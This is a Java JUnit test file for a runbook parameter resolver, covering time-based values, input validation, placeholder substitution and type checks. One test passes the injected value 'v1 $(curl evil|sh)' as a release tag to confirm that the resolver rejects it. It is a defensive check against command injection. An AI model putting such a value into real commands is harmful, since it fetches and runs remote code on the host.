package dev.tminus.runbook;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import dev.tminus.runbook.RunbookTemplate.Parameter;
import dev.tminus.runbook.RunbookTemplate.Parameter.Source;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

class ParameterResolverTests {

	static final Instant T0 = Instant.parse("2026-03-01T09:00:00Z");

	static final Instant CREATED = Instant.parse("2026-02-27T14:05:09.750Z");

	static final Map<String, String> BUILT_INS = Map.of("RELEASE", "v1.4.2", "ENVIRONMENT", "dev", "CUTOVER_NAME",
			"E2-3 rehearsal 1");

	@Test
	void generatesTheRunIdFromTheCreationTimeInUtc() {
		Map<String, String> values = resolve(
				List.of(new Parameter("RUN_ID", "Run id", Source.GENERATED, "e2-3-{utc:yyyyMMddHHmmss}", null)));

		assertThat(values).containsEntry("RUN_ID", "e2-3-20260227140509");
	}

	@Test
	void rendersTheBackfillRangeOfSeed003FromTZero() {
		Map<String, String> values = resolve(
				List.of(new Parameter("BACKFILL_SINCE", "since", Source.FROM_T0, "-24h", null),
						new Parameter("BACKFILL_UNTIL", "until", Source.FROM_T0, "-1s", null),
						new Parameter("BUFFER_UNTIL", "buffer", Source.FROM_T0, "+5m", null)));

		assertThat(values).containsEntry("BACKFILL_SINCE", "2026-02-28T09:00:00Z")
			.containsEntry("BACKFILL_UNTIL", "2026-03-01T08:59:59Z")
			.containsEntry("BUFFER_UNTIL", "2026-03-01T09:05:00Z");
	}

	@Test
	void offersTheBuiltInsWithTZeroInUtcSeconds() {
		Map<String, String> values = ParameterResolver.resolve(List.of(), Instant.parse("2026-03-01T09:00:00.999Z"),
				CREATED, Map.of(), BUILT_INS);

		assertThat(values).containsExactly(Map.entry("T_CUTOVER", "2026-03-01T09:00:00Z"),
				Map.entry("RELEASE", "v1.4.2"), Map.entry("ENVIRONMENT", "dev"),
				Map.entry("CUTOVER_NAME", "E2-3 rehearsal 1"));
	}

	@Test
	void takesConstantsAndInputsFallingBackToTheirDefaults() {
		List<Parameter> parameters = List.of(new Parameter("AKS_CLUSTER", "cluster", Source.VALUE, "nsc-aks-dev", null),
				new Parameter("P95_MAX_MS", "p95", Source.INPUT, null, null),
				new Parameter("CANARY_AMOUNT", "amount", Source.INPUT, null, "10"));

		Map<String, String> values = ParameterResolver.resolve(parameters, T0, CREATED, Map.of("P95_MAX_MS", " 300 "),
				BUILT_INS);

		assertThat(values).containsEntry("AKS_CLUSTER", "nsc-aks-dev")
			.containsEntry("P95_MAX_MS", "300")
			.containsEntry("CANARY_AMOUNT", "10");
	}

	@Test
	void refusesAMissingInputAndAValueForSomethingThatIsNoInput() {
		List<Parameter> parameters = List.of(new Parameter("AKS_CLUSTER", "cluster", Source.VALUE, "nsc-aks-dev", null),
				new Parameter("TPS_MIN", "TPS ≥ Z", Source.INPUT, null, null));

		assertThatExceptionOfType(RunParameterException.class)
			.isThrownBy(
					() -> ParameterResolver.resolve(parameters, T0, CREATED, Map.of("AKS_CLUSTER", "other"), BUILT_INS))
			.satisfies((ex) -> assertThat(ex.problems()).containsExactly("TPS ≥ Z (TPS_MIN) is required",
					"AKS_CLUSTER is not an input parameter of this runbook"));
	}

	@Test
	void refusesToOverrideTZeroThroughTheBuiltIns() {
		assertThatExceptionOfType(RunParameterException.class)
			.isThrownBy(() -> ParameterResolver.resolve(List.of(), T0, CREATED, Map.of(), Map.of("T_CUTOVER", "now")))
			.withMessageContaining("T_CUTOVER is not a built-in that can be given");
	}

	@Test
	void substitutesKnownValuesKeepsUnknownPlaceholdersAndUnescapesShellVariables() {
		String text = "run ${RUN_ID} since ${BACKFILL_SINCE}; tx \"$${SYNC_TX_ID}\"; reason ${REASON}; cost $5";

		String result = ParameterResolver.substitute(text,
				Map.of("RUN_ID", "e2-3-20260227140509", "BACKFILL_SINCE", "2026-02-28T09:00:00Z"));

		assertThat(result).isEqualTo("run e2-3-20260227140509 since 2026-02-28T09:00:00Z; tx \"${SYNC_TX_ID}\";"
				+ " reason ${REASON}; cost $5");
	}

	@Test
	void substitutionIsLiteralForValuesWithDollarsAndBackslashes() {
		assertThat(ParameterResolver.substitute("${X}", Map.of("X", "a$1\\b"))).isEqualTo("a$1\\b");
	}

	@Test
	void makesTheE23BackfillCommandCopyReady() throws Exception {
		RunbookTemplate template = new RunbookParser().parse("e2-3-reload-cutover-rehearsal.yml",
				Files.readString(Path.of("config/runbooks/e2-3-reload-cutover-rehearsal.yml")));
		Map<String, String> values = ParameterResolver.resolve(template.parameters(), T0, CREATED, Map.of(), BUILT_INS);

		String instructions = ParameterResolver.substitute(template.step("BACKFILL").orElseThrow().instructions(),
				values);

		assertThat(instructions).contains("--ledger-file /tmp/e2_3_ledger_e2-3-20260227140509.jsonl")
			.contains("--since 2026-02-28T09:00:00Z --until 2026-03-01T08:59:59Z")
			.doesNotContain("${");
		assertThat(values).containsEntry("EVIDENCE_DIR",
				".agents/logs/verification/20260227_140509_e2_3_reload_cutover_rehearsal");
	}

	@Test
	void checksEachInputAgainstItsTypeAndNormalizesIt() {
		List<Parameter> parameters = List.of(
				new Parameter("P95", "p95", Source.INPUT, null, null, RunbookTemplate.ParameterType.NUMBER, true),
				new Parameter("SHA", "sha", Source.INPUT, null, null, RunbookTemplate.ParameterType.SHA256, true),
				new Parameter("AT", "at", Source.INPUT, null, null, RunbookTemplate.ParameterType.TIMESTAMP, true),
				new Parameter("RPO", "rpo", Source.INPUT, null, null, RunbookTemplate.ParameterType.DURATION, true),
				new Parameter("SLO", "slo", Source.INPUT, null, null, RunbookTemplate.ParameterType.URL, true),
				new Parameter("NOTE", "note", Source.INPUT, null, null, RunbookTemplate.ParameterType.TEXT, false));

		Map<String, String> values = ParameterResolver
			.resolve(parameters, T0, CREATED,
					Map.of("P95", "3e2", "SHA", "CEB56F73837A9C775E2B7F2C870628C89F5A110DB8801F80E6DAE43533BD6B32",
							"AT", "2026-03-01T09:00:00.000Z", "RPO", "1h30m", "SLO", "https://grafana.example/d/slo"),
					BUILT_INS);

		assertThat(values).containsEntry("P95", "300")
			.containsEntry("SHA", "ceb56f73837a9c775e2b7f2c870628c89f5a110db8801f80e6dae43533bd6b32")
			.containsEntry("AT", "2026-03-01T09:00:00Z")
			.containsEntry("RPO", "1h30m")
			.containsEntry("NOTE", "");
		assertThatExceptionOfType(RunParameterException.class)
			.isThrownBy(() -> ParameterResolver.resolve(parameters, T0, CREATED,
					Map.of("P95", "x", "SHA", "abc", "AT", "2026-03-01T09:00", "RPO", "-5m", "SLO", "ftp://files",
							"NOTE", "two\nlines"),
					BUILT_INS))
			.satisfies((ex) -> assertThat(ex.keys()).containsExactly("P95", "SHA", "AT", "RPO", "SLO", "NOTE"));
	}

	@Test
	void aValueThatStandsInACommandHoldsOnlyCommandSafeCharacters() throws Exception {
		RunbookTemplate goLive = new RunbookParser().parse("go-live-canary-money-loop.yml",
				Files.readString(Path.of("config/runbooks/go-live-canary-money-loop.yml")));
		assertThat(ParameterResolver.commandUses(goLive)).containsOnlyKeys("RELEASE", "CANARY_TENANT");

		assertThatExceptionOfType(RunParameterException.class)
			.isThrownBy(() -> ParameterResolver.resolve(goLive, T0, CREATED, Map.of("CANARY_TENANT", "t-1"),
					Map.of("RELEASE", "v1 $(curl evil|sh)", "ENVIRONMENT", "prod", "CUTOVER_NAME", "Go-live 7")))
			.withMessageContaining("Release SHA or tag (RELEASE) stands in a command (step 'Release SHA/Tag fixed')")
			.withMessageContaining("found a space, $(, '(', '|', ')'");
		assertThat(ParameterResolver.resolve(goLive, T0, CREATED, Map.of("CANARY_TENANT", "tenant-canary-01"),
				Map.of("RELEASE", "v1.4.0+build.7", "ENVIRONMENT", "prod", "CUTOVER_NAME", "Go-live [7] `rc`")))
			.containsEntry("RELEASE", "v1.4.0+build.7")
			.containsEntry("CUTOVER_NAME", "Go-live [7] `rc`");
	}

	private static Map<String, String> resolve(List<Parameter> parameters) {
		return ParameterResolver.resolve(parameters, T0, CREATED, Map.of(), BUILT_INS);
	}

}
